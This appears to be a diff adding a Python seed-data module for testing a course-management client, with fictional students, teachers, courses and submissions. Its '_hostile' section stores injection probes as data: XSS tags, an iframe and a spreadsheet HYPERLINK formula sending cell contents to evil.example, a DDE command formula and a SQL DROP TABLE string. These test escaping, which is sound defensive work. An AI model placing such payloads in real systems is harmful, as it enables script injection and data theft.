@@ -1,0 +1,455 @@
+"""The people worth meeting and their courses."""
+
+from .builder import Builder
+from .chance import scatter
+from .courses import Course
+from .coursework import Assignment, Criterion
+from .happenings import Note, Override
+
+DOZEN, MANY, NEWCOMER, HOSTILE, TEACHER, BIG_TEACHER, ADMIN, OBSERVER, TA = range(1, 10)
+LINEAR_ALGEBRA_ID = 9_070_000_000_000_417
+"""Above 2**53, so a client that reads ids as floating point numbers names another course."""
+BIG_COURSE_ID = 4301
+
+ESSAY_RUBRIC = (
+    Criterion("_8471", "Argument", 10, "The claim is clear and defended throughout."),
+    Criterion("_8472", "Evidence", 10, "Sources are cited and weighed."),
+    Criterion("_8473", "Style", 5, "Plain and exact."),
+)
+
+
+def tell(build: Builder) -> None:
+    """Everybody and everything."""
+    _cast(build)
+    biology = _biology(build)
+    statistics, history = _statistics(build), _history(build)
+    _other_courses(build)
+    _weeks(build, [biology, statistics, history])
+    _many(build)
+    _hostile(build)
+    _big_course(build)
+    _personal(build, biology)
+
+
+def _cast(build: Builder) -> None:
+    build.person(DOZEN, "dozen", "Maya Lindqvist", "student", pronouns="she/her")
+    build.person(MANY, "many", "Jonas Weber", "student", time_zone="Europe/Berlin", locale="de")
+    build.person(NEWCOMER, "newcomer", "Aisha Rahman", "student", time_zone="Asia/Karachi")
+    build.person(HOSTILE, "hostile", "<script>alert('name')</script> O'Null", "student")
+    build.person(TEACHER, "teacher", "Helen Okonkwo", "teacher")
+    build.person(BIG_TEACHER, "bigteacher", "Marcus Feld", "teacher", locale="en-GB")
+    build.person(ADMIN, "admin", "Ines Castellano", "admin")
+    build.person(OBSERVER, "observer", "Karin Lindqvist", "observer", locale="sv")
+    build.person(TA, "ta", "Tomás Herrera", "ta", "student", locale="es")
+    build.others(60, 20, "teacher")
+
+
+def _enrolled(
+    build: Builder, course: Course, teacher: int, classmates: list[int], *students: int
+) -> Course:
+    build.enrol(course, teacher, "Teacher")
+    half = len(classmates) // len(course.section_ids)
+    build.enrol(course, students)
+    for index in range(len(course.section_ids)):
+        stop = None if index == len(course.section_ids) - 1 else (index + 1) * half
+        build.enrol(course, classmates[index * half : stop], section=index)
+    return course
+
+
+def _biology(build: Builder) -> Course:
+    course = build.course(
+        4101,
+        "Biology 101",
+        "BIO-101",
+        sections=("Monday laboratory", "Thursday laboratory"),
+        groups=(("Homework", 30.0), ("Laboratory", 30.0), ("Quizzes", 15.0), ("Exams", 25.0)),
+        apply_assignment_group_weights=True,
+        syllabus_body="<p>Cells, heredity, evolution. Laboratory attendance is required.</p>",
+        public_description="An introduction to the living world.",
+        colour="#2f7d4f",
+        modules=12,
+    )
+    build.periods(course, ("First half", -84, -29, 50.0), ("Second half", -28, 35, 50.0))
+    _enrolled(build, course, TEACHER, build.others(1001, 63), DOZEN)
+    build.enrol(course, TA, "Ta", section=1, limited_to_section=True)
+    build.enrol(course, OBSERVER, "Observer", associated_user_id=DOZEN)
+    _every_state(build, course)
+    build.announces(course, "Microscopes are back", "<p>Room 12 is open again.</p>", -2)
+    build.announces(course, "Field trip moved to Friday", "<p>Bring boots.</p>", -9)
+    build.happens("Review session", 2, 17, course_id=course.id, location="Hall B")
+    build.happens("Mid-term exam", -12, 9, hours=2, course_id=course.id)
+    build.reads(course, "Read: how a membrane decides", 3)
+    return course
+
+
+def _every_state(build: Builder, course: Course) -> None:
+    """One piece of work for each status a submission can have."""
+    work, hands_in, graded = build.work, build.hands_in, build.graded
+
+    posted = work(course, "Cell structure worksheet", -40, points_possible=20)
+    row = graded(hands_in(posted, DOZEN, -41), 18.5, -37)
+    build.comments(row, TEACHER, "Lovely drawings. Label the Golgi next time.", -37)
+    build.comments(row, DOZEN, "Thank you, I will.", -36)
+
+    essay = work(
+        course,
+        "Essay: why we age",
+        -30,
+        points_possible=25,
+        rubric=ESSAY_RUBRIC,
+        allowed_attempts=3,
+    )
+    row = graded(hands_in(essay, DOZEN, -31), 21, -26)
+    row.rubric = {"_8471": 10.0, "_8472": 7.5, "_8473": 3.5}
+    build.comments(row, TEACHER, "A strong argument; weigh your second source.", -26)
+
+    late = work(course, "Osmosis laboratory report", -24, group=1, points_possible=40)
+    row = hands_in(late, DOZEN, -21)
+    graded(row, 36, -18, deducted=4)
+    row.late_policy_status = "late"
+
+    hidden = work(
+        course, "Mid-term exam essay", -12, group=3, points_possible=50, post_manually=True
+    )
+    graded(hands_in(hidden, DOZEN, -13), 44, -3)
+
+    excused = work(course, "Herbarium sheet", -20, group=1, points_possible=10)
+    row = hands_in(excused, DOZEN, excused=True, grader_id=TEACHER)
+    row.workflow_state, row.graded_at = "graded", build.at(-19, 10)
+    row.posted_at = row.graded_at
+
+    redo = work(course, "Enzyme kinetics problem set", -10, points_possible=15)
+    row = graded(hands_in(redo, DOZEN, -11), 6, -7)
+    row.redo_request = True
+    build.comments(row, TEACHER, "Units are missing throughout; please hand it in again.", -7)
+
+    again = work(course, "Punnett squares", -14, points_possible=10)
+    row = graded(hands_in(again, DOZEN, -15), 5, -9)
+    row.submitted_at, row.attempt, row.grade_matches = build.at(-4, 20), 2, False
+    row.workflow_state = "submitted"
+
+    custom = work(course, "Oral presentation", -8, points_possible=20)
+    hands_in(custom, DOZEN, custom_grade_status_id=1)
+
+    review = work(course, "Quiz: mitosis", -6, group=2, kind="quiz", points_possible=12)
+    row = graded(hands_in(review, DOZEN, -6), 8, -6)
+    row.workflow_state = "pending_review"
+
+    done = work(course, "Quiz: the cell", -33, group=2, kind="quiz", points_possible=12)
+    graded(hands_in(done, DOZEN, -33), 11, -33)
+
+    hands_in(work(course, "Photosynthesis worksheet", -1, points_possible=20), DOZEN, -2)
+    hands_in(work(course, "Field notes, week 9", -5, points_possible=10), DOZEN)
+    hands_in(work(course, "Field notes, week 5", -32, points_possible=10), DOZEN)
+    old = work(course, "Reading response 1", -60, points_possible=5)
+    row = graded(hands_in(old, DOZEN), 0, -50)
+    row.late_policy_status = "missing"
+
+    paper = work(course, "Dissection notebook", -3, group=1, kind="paper", points_possible=30)
+    hands_in(paper, DOZEN)
+    none = work(course, "Class participation", 20, kind="none", points_possible=10)
+    hands_in(none, DOZEN)
+    work(course, "Discussion: should we edit genes?", 1, kind="discussion", points_possible=10)
+    talk = work(course, "Discussion: what is life?", -45, kind="discussion", points_possible=10)
+    graded(hands_in(talk, DOZEN, -46), 10, -43)
+
+    due = work(course, "Heredity problem set", 2, points_possible=20)
+    due.due_dates[DOZEN] = build.due(4)
+    work(course, "Quiz: heredity", 5, group=2, kind="quiz", points_possible=12)
+    work(
+        course,
+        "Evolution laboratory",
+        9,
+        group=1,
+        points_possible=40,
+        unlock_at=build.at(6),
+        lock_at=build.due(10),
+    )
+    locked = work(course, "Reading response 4", -16, points_possible=5, lock_at=build.due(-15))
+    hands_in(locked, DOZEN)
+    extended = work(course, "Reading response 5", -2, points_possible=5)
+    hands_in(extended, DOZEN, late_policy_status="none")
+    work(course, "Final exam", 30, group=3, kind="paper", points_possible=100)
+    work(course, "Portfolio of the term", None, kind="url", points_possible=15)
+    work(course, "Surprise question", 12, published=False, points_possible=5)
+    work(course, "Make-up laboratory", 8, group=1, only_for=frozenset({1001, 1002}))
+
+
+def _statistics(build: Builder) -> Course:
+    course = build.course(
+        4102,
+        "Statistics",
+        "STAT-210",
+        groups=(("Problem sets", 60.0), ("Project", 40.0)),
+        apply_assignment_group_weights=True,
+        colour="#1f5fa8",
+        modules=8,
+    )
+    _enrolled(build, course, TEACHER, build.others(1032, 63), DOZEN)
+    build.enrol(course, OBSERVER, "Observer", associated_user_id=DOZEN)
+    for week, title in enumerate(("Distributions", "Sampling", "Estimation", "Tests")):
+        made = build.work(course, f"Problem set {week + 1}: {title}", -35 + 14 * week)
+        if week < 2:
+            build.graded(build.hands_in(made, DOZEN, -36 + 14 * week), 9 - week, -30 + 14 * week)
+    build.work(course, "Project proposal", 11, group=1, points_possible=30)
+    build.announces(course, "Office hours on Tuesday", "<p>Room 310, from four.</p>", -1)
+    return course
+
+
+def _history(build: Builder) -> Course:
+    course = build.course(
+        4103,
+        "World History since 1500",
+        "HIST-120",
+        hide_final_grades=True,
+        colour="#8a4b08",
+    )
+    _enrolled(build, course, TEACHER, build.others(1064, 63), DOZEN)
+    for index, day in enumerate((-42, -21, -4, 6)):
+        build.work(course, f"Source analysis {index + 1}", day, points_possible=25)
+    build.announces(course, "The archive visit", "<p>We meet at the gate.</p>", -6)
+    return course
+
+
+def _other_courses(build: Builder) -> None:
+    small = build.others(1200, 24)
+
+    english = build.course(
+        4104, "English Composition", "ENGL-105", colour="#7a3e9d", grading_standard=True
+    )
+    _enrolled(build, english, 61, small[:18], DOZEN)
+    for index, day in enumerate((-50, -29, -8, 3, 13)):
+        build.work(
+            english,
+            f"Draft {index + 1}",
+            day,
+            points_possible=100,
+            grading_type="letter_grade",
+            rubric=ESSAY_RUBRIC,
+        )
+
+    algebra = build.course(
+        LINEAR_ALGEBRA_ID, "Linear Algebra", "MATH-220", colour="#b3261e", modules=5
+    )
+    _enrolled(build, algebra, 62, small[4:20], DOZEN, TA)
+    for index, day in enumerate((-23, -9, 0, 7)):
+        build.work(
+            algebra,
+            f"Matrices, sheet {index + 1}",
+            day,
+            grading_type="percent",
+            assignment_id=LINEAR_ALGEBRA_ID + 2000 + 2 * index,
+        )
+
+    programming = build.course(
+        4106,
+        "Introduction to Programming",
+        "CS-101",
+        sections=("Lecture", "Laboratory 3"),
+        colour="#0b7285",
+    )
+    _enrolled(build, programming, 63, small[2:22], DOZEN)
+    build.enrol(programming, DOZEN, section=1)
+    for index, day in enumerate((-31, -17, -3, 4, 10)):
+        build.work(programming, f"Exercise {index + 1}", day, kind="url", points_possible=8)
+    build.work(programming, "Install the tools", -60, grading_type="pass_fail", points_possible=1)
+
+    chemistry = build.course(
+        4107,
+        "Chemistry",
+        "CHEM-110",
+        restrict_quantitative_data=True,
+        grading_standard=True,
+        colour="#c2255c",
+    )
+    _enrolled(build, chemistry, 64, small[:20], DOZEN)
+    for index, day in enumerate((-27, -13, 1, 8)):
+        build.work(chemistry, f"Titration {index + 1}", day, points_possible=20)
+
+    spanish = build.course(4108, "Spanish II", "SPAN-102", term="past", colour="#a36a00")
+    _enrolled(build, spanish, 65, small[:10], DOZEN)
+    for index in range(3):
+        build.work(spanish, f"Redacción {index + 1}", -260 + 20 * index)
+
+    philosophy = build.course(
+        4109, "Philosophy of Science", "PHIL-201", term="past", workflow_state="completed"
+    )
+    build.enrol(philosophy, 66, "Teacher", state="completed")
+    build.enrol(philosophy, DOZEN, state="completed")
+    build.work(philosophy, "Essay: what a theory is", -230, points_possible=50)
+
+    physics = build.course(
+        4110, "Physics I", "PHYS-101", term="past", restrict_student_past_view=True
+    )
+    _enrolled(build, physics, 67, small[:6], DOZEN)
+
+    art = build.course(4111, "Art History", "ART-110", term="next", colour="#5c5f66")
+    _enrolled(build, art, 68, small[:6], DOZEN)
+    build.work(art, "Museum visit", 60)
+
+    music = build.course(4112, "Music Theory", "MUS-100", colour="#4263eb")
+    build.enrol(music, 69, "Teacher")
+    build.enrol(music, DOZEN, state="invited")
+
+
+def _weeks(build: Builder, courses: list[Course]) -> None:
+    """Small regular work, so that past and coming weeks look lived in."""
+    for course in courses:
+        for week in range(-6, 3):
+            day = week * 7 + 1 + scatter(course.id, week) % 5
+            build.work(
+                course, f"Weekly check, week {week + 12}", day, kind="quiz", points_possible=5
+            )
+
+
+_SUBJECTS_TEXT = (
+    "Algebra Anatomy Anthropology Archaeology Architecture Astronomy Botany Calculus Ceramics "
+    "Cinema Classics Dance Drama Ecology Economics Ethics Finance French Genetics Geography "
+    "Geology German Greek Informatics Italian Journalism Latin Law Linguistics Literature Logic "
+    "Marketing Mechanics Meteorology Music Nutrition Optics Painting Poetry Psychology Rhetoric "
+    "Russian Sculpture Sociology Theology Zoology"
+)
+_SUBJECTS = _SUBJECTS_TEXT.split()
+
+
+def _many(build: Builder) -> None:
+    for index in range(137):
+        subject = _SUBJECTS[index % len(_SUBJECTS)]
+        level = 1 + index // len(_SUBJECTS)
+        course = build.course(
+            5001 + index, f"{subject} {level}", f"{subject[:4].upper()}-{level}{index:03d}"
+        )
+        build.enrol(course, 60 + index % 20, "Teacher")
+        build.enrol(course, MANY)
+        build.work(course, "Essay", -10 + index % 7, points_possible=20)
+        build.work(course, "Worksheet", -3 + index % 11)
+        build.work(course, "Quiz", 15 + index % 10, kind="quiz")
+
+
+RIGHT_TO_LEFT = "\u202eعنوان عربي طويل\u202c שלום"
+UNBROKEN = "W" * 255
+HOSTILE_TEXTS = (
+    "<script>alert('title')</script>",
+    "<img src=x onerror=\"alert('img')\">",
+    UNBROKEN,
+    RIGHT_TO_LEFT,
+    "🧪👩🏽‍🔬🏳️‍🌈 e\u0301 \u200b",
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '\'); DROP TABLE students;-- "quotes" & ampersands',
+    "null",
+    "{{ 7 * 7 }} {% raw %} ${7*7}",
+    "-1+cmd|' /C calc'!A0",
+    "</td></table><h1>Broken</h1>",
+    "  ",
+)
+HOSTILE_HTML = (
+    '<p onclick="alert(1)">Text <a href="javascript:alert(\'link\')">link</a>'
+    "<script>alert('body')</script><style>*{display:none}</style>"
+    '<iframe src="https://evil.example"></iframe><form action="/logout" method="post">'
+    "<button>Sign out</button></form><img src=x onerror=\"alert('img')\">"
+    '<a href="/courses/1">relative</a> <b>bold</b></p>'
+)
+
+
+def _hostile(build: Builder) -> None:
+    names = ("<script>alert('course')</script>", UNBROKEN, RIGHT_TO_LEFT, "=1+1", "null")
+    for index, name in enumerate(names):
+        course = build.course(
+            6001 + index, name, name[:30], syllabus_body=HOSTILE_HTML, public_description=name
+        )
+        build.enrol(course, 60, "Teacher")
+        build.enrol(course, HOSTILE)
+        for place, title in enumerate(HOSTILE_TEXTS if index == 0 else HOSTILE_TEXTS[index::4]):
+            made = build.work(
+                course, title, place * 2 - 8, description=HOSTILE_HTML, points_possible=10
+            )
+            if place % 3 == 0:
+                row = build.hands_in(made, HOSTILE, place * 2 - 12, body=HOSTILE_HTML)
+                row.body = HOSTILE_HTML
+                if place * 2 - 9 < 0:
+                    build.graded(row, 7.5, place * 2 - 9)
+                build.comments(row, 60, title, -1)
+        build.announces(course, name, HOSTILE_HTML, -1 - index)
+        build.happens(name, index, 10, course_id=course.id, description=HOSTILE_HTML)
+    campus = build.campus
+    campus.nicknames[HOSTILE][6004] = '=HYPERLINK("https://evil.example")'
+    campus.colours[HOSTILE]["course_6001"] = "#ff00ff"
+
+
+def _big_course(build: Builder) -> None:
+    course = build.course(
+        BIG_COURSE_ID,
+        "Introduction to Psychology",
+        "PSY-100",
+        sections=("Morning", "Noon", "Afternoon", "Evening"),
+        groups=(("Weekly work", 50.0), ("Essays", 30.0), ("Exams", 20.0)),
+        apply_assignment_group_weights=True,
+        colour="#6741d9",
+    )
+    build.enrol(course, BIG_TEACHER, "Teacher")
+    for section in range(4):
+        build.enrol(course, build.others(2001 + 160 * section, 160), section=section)
+    for index in range(40):
+        group = 2 if index % 13 == 12 else 1 if index % 5 == 4 else 0
+        _psychology(build, course, index, group)
+
+
+def _psychology(build: Builder, course: Course, index: int, group: int) -> Assignment:
+    title = ("Week", "Essay", "Exam")[group]
+    kind = ("quiz" if index % 3 == 0 else "online", "online", "paper")[group]
+    return build.work(
+        course,
+        f"{title} {index + 1}",
+        -76 + index * 2.5,
+        group=group,
+        kind=kind,
+        points_possible=(10, 50, 100)[group],
+        rubric=ESSAY_RUBRIC if group == 1 else (),
+    )
+
+
+def _personal(build: Builder, biology: Course) -> None:
+    """What dozen arranged: favourites, nicknames, colours, notes, done marks."""
+    campus = build.campus
+    campus.favourites[DOZEN] = [4101, 4102, 4103, 4104, LINEAR_ALGEBRA_ID, 4106, 4107]
+    campus.nicknames[DOZEN] = {4104: "Writing"}
+    campus.colours[DOZEN] = {
+        f"course_{course.id}": course.colour
+        for course in campus.courses.values()
+        if course.colour and campus.between(DOZEN, course.id)
+    }
+    campus.positions[DOZEN] = {"course_4102": 0, "course_4101": 1}
+    campus.unread_conversations = {DOZEN: 3, TEACHER: 12}
+    for number, (title, day, course_id) in enumerate(
+        (
+            ("Return library books", 1, None),
+            ("Form a study group", 3, biology.id),
+            ("Tidy notes", -4, None),
+        ),
+        90_001,
+    ):
+        campus.notes[number] = Note(
+            number,
+            DOZEN,
+            title,
+            "Ask at the desk." if course_id is None else None,
+            build.at(day, 12),
+            course_id,
+            build.at(-8, 9),
+            build.at(-8, 9),
+        )
+    work = next(row for row in campus.work_of(biology.id) if row.name == "Dissection notebook")
+    campus.overrides[95_001] = Override(
+        95_001,
+        DOZEN,
+        "assignment",
+        work.id,
+        True,
+        False,
+        build.at(-3, 15),
+        build.at(-3, 15),
+        assignment_id=work.id,
+    )
+    build.happens("Dentist", 2, 15, user_id=DOZEN)
+    build.happens("Choir weekend", 5, 0, hours=24, user_id=DOZEN, all_day=True)
+    build.happens("Department meeting", 1, 9, user_id=TEACHER)
